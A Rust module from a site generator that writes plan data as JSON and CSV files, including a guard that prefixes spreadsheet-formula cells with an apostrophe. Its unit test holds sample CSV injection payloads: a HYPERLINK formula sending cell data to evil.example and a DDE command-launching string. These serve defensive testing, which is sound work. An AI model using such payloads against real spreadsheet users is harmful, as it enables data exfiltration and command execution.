//! The site's data for reuse, written from the same model the pages show:
//! per plan `data.json` (everything), `data.csv` (a row per KPI and year)
//! and `items.csv` (a row per item and graded year); for the whole site
//! `data/kpis.csv` and `data/items.csv`, `datapackage.json` and the schemas
//! it points to. Formats are documented in docs/data-format.md.
//!
//! The build and the preview both write what [`PlanFiles`] and
//! [`site_files`] make, under the names listed here.

mod columns;
mod csv;
mod json;
mod package;

use crate::assess::{CityAssessment, PlanAssessment};
use crate::config::Config;
use crate::content::reader::fmt_number;
use crate::model::{City, Plan, Site, Value};

pub use json::JSON_FORMAT;

/// Each plan's data files, in its folder.
pub const PLAN_FILES: [&str; 3] = ["data.json", "data.csv", "items.csv"];

/// The site's own data files, from its root.
pub const SITE_FILES: [&str; 6] = [
    "datapackage.json",
    "data/kpis.csv",
    "data/items.csv",
    package::KPIS_SCHEMA_PATH,
    package::ITEMS_SCHEMA_PATH,
    "data/plan.schema.json",
];

/// A plan's data files, in the order of [`PLAN_FILES`].
pub struct PlanFiles {
    pub json: Vec<u8>,
    pub kpis: Vec<u8>,
    pub items: Vec<u8>,
}

impl PlanFiles {
    pub fn make(
        config: &Config,
        city: &City,
        plan: &Plan,
        city_assessment: &CityAssessment,
        assessment: &PlanAssessment,
    ) -> PlanFiles {
        let (kpis, items) = plan_csv(config, city, plan, assessment);
        PlanFiles {
            json: json::plan_json(config, city, plan, city_assessment, assessment).into_bytes(),
            kpis,
            items,
        }
    }

    /// Each file with its path from the site's root.
    pub fn files(&self, city: &City, plan: &Plan) -> [(String, &[u8]); 3] {
        let dir = format!("{}/{}", city.slug, plan.slug);
        let bytes = [&self.json, &self.kpis, &self.items];
        std::array::from_fn(|i| (format!("{dir}/{}", PLAN_FILES[i]), bytes[i].as_slice()))
    }
}

/// The site's own data files, in the order of [`SITE_FILES`], from each
/// plan's two CSV files (`data.csv`, `items.csv`) in site order.
pub fn site_files_of(config: &Config, site: &Site, plans: &[(&[u8], &[u8])]) -> [Vec<u8>; 6] {
    let language = config.csv_header;
    let in_memory = "writing to memory cannot fail";
    // Each file allocated once at its size (about 150 MB at 50,000 items):
    // grown as it is written, it was copied on every doubling and, the
    // first times in a preview, took 0.7 s to fault in.
    let size = |of: fn(&(&[u8], &[u8])) -> usize| plans.iter().map(of).sum::<usize>();
    let (kpis_size, items_size) = (size(|p| p.0.len()), size(|p| p.1.len()));
    let mut kpis =
        csv::Joined::new(&columns::KPIS, language, Vec::with_capacity(kpis_size)).expect(in_memory);
    let mut items = csv::Joined::new(&columns::ITEMS, language, Vec::with_capacity(items_size))
        .expect(in_memory);
    for &(k, i) in plans {
        kpis.push(k).expect(in_memory);
        items.push(i).expect(in_memory);
    }
    let [package, kpis_schema, items_schema, plan_schema] = site_meta(config, site).map(|f| f.1);
    [
        package,
        kpis.into_inner(),
        items.into_inner(),
        kpis_schema,
        items_schema,
        plan_schema,
    ]
}

/// The site's data files other than its two CSV files, with their paths
/// (those of [`SITE_FILES`], in its order).
pub fn site_meta(config: &Config, site: &Site) -> [(&'static str, Vec<u8>); 4] {
    let language = config.csv_header;
    [
        (
            SITE_FILES[0],
            package::datapackage(config, site).into_bytes(),
        ),
        (
            SITE_FILES[3],
            package::table_schema(&columns::KPIS, language).into_bytes(),
        ),
        (
            SITE_FILES[4],
            package::table_schema(&columns::ITEMS, language).into_bytes(),
        ),
        (SITE_FILES[5], package::PLAN_SCHEMA.as_bytes().to_vec()),
    ]
}

/// A plan's two CSV files (`data.csv`, `items.csv`), as [`PlanFiles`] has them.
pub fn plan_csv(
    config: &Config,
    city: &City,
    plan: &Plan,
    assessment: &PlanAssessment,
) -> (Vec<u8>, Vec<u8>) {
    (
        csv::kpis(city, plan, assessment, config.csv_header),
        csv::items(city, plan, assessment, config.csv_header),
    )
}

/// A plan's two CSV files: kept from the build before (`K`), or made now.
enum Csvs<K> {
    Kept((K, K)),
    Made(Vec<u8>, Vec<u8>),
}

/// How many plans' files the build holds at once: made on every core, then
/// written and joined into the site's CSV files.
const BATCH: usize = 32;

/// Every plan's data files, made on every core a batch of plans at a time
/// and each handed to `write` with its city and plan, their rows joined in
/// site order into the site's CSV files `kpis` and `items` (`data/kpis.csv`
/// and `data/items.csv`) as they come: the site's CSV files are never held
/// whole (about 150 MB at 50,000 items). A plan for which `kept` gives its
/// two CSV files (its data files kept from the previous build, city and
/// plan by index) is not made again.
pub fn write_plans<K: AsRef<[u8]> + Send>(
    config: &Config,
    site: &Site,
    assessment: &crate::assess::Assessment,
    kept: impl Fn(usize, usize) -> Option<(K, K)> + Sync,
    write: impl Fn(&City, &Plan, &PlanFiles) + Sync,
    kpis: &mut dyn std::io::Write,
    items: &mut dyn std::io::Write,
) -> std::io::Result<()> {
    use rayon::prelude::*;
    let language = config.csv_header;
    let mut kpis = csv::Joined::new(&columns::KPIS, language, kpis)?;
    let mut items = csv::Joined::new(&columns::ITEMS, language, items)?;
    let plans = site.plan_indices();
    for batch in plans.chunks(BATCH) {
        let csvs: Vec<Csvs<K>> = batch
            .par_iter()
            .map(|&(ci, pi)| {
                if let Some(csvs) = kept(ci, pi) {
                    return Csvs::Kept(csvs);
                }
                let (city, plan) = (&site.cities[ci], &site.cities[ci].plans[pi]);
                let pa = assessment.plan(ci, pi);
                let files = PlanFiles::make(config, city, plan, &assessment.cities[ci], pa);
                write(city, plan, &files);
                Csvs::Made(files.kpis, files.items)
            })
            .collect();
        for csvs in &csvs {
            let (k, i) = match csvs {
                Csvs::Kept((k, i)) => (k.as_ref(), i.as_ref()),
                Csvs::Made(k, i) => (k.as_slice(), i.as_slice()),
            };
            kpis.push(k)?;
            items.push(i)?;
        }
    }
    Ok(())
}

/// Numbers without separators so that spreadsheets read them as numbers.
fn plain(v: &Value) -> String {
    match v {
        Value::Number(n) => fmt_number(*n),
        Value::Text(t) => guard(t).into_owned(),
    }
}

/// Text as a spreadsheet will show it, never run it: a cell that starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
/// and LibreOffice (`=HYPERLINK(…)` sends data away, `@SUM(…)|cmd` starts
/// programs), so it gets a leading apostrophe, the OWASP rule for CSV.
/// Numbers are written by [`plain`] and never pass here.
#[inline]
pub fn guard(text: &str) -> std::borrow::Cow<'_, str> {
    if matches!(
        text.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    ) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_neutralised() {
        assert_eq!(
            guard("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
        );
        assert_eq!(
            guard("@SUM(1+1)*cmd|' /C calc'!A0"),
            "'@SUM(1+1)*cmd|' /C calc'!A0"
        );
        for s in ["+1", "-", "\tx", "\rx"] {
            assert_eq!(guard(s), format!("'{s}"));
        }
        assert_eq!(guard("総務課"), "総務課");
        assert_eq!(
            plain(&Value::Number(-30095.0)),
            "-30095",
            "numbers stay numbers"
        );
        assert_eq!(plain(&Value::Text("-".into())), "'-");
    }
}
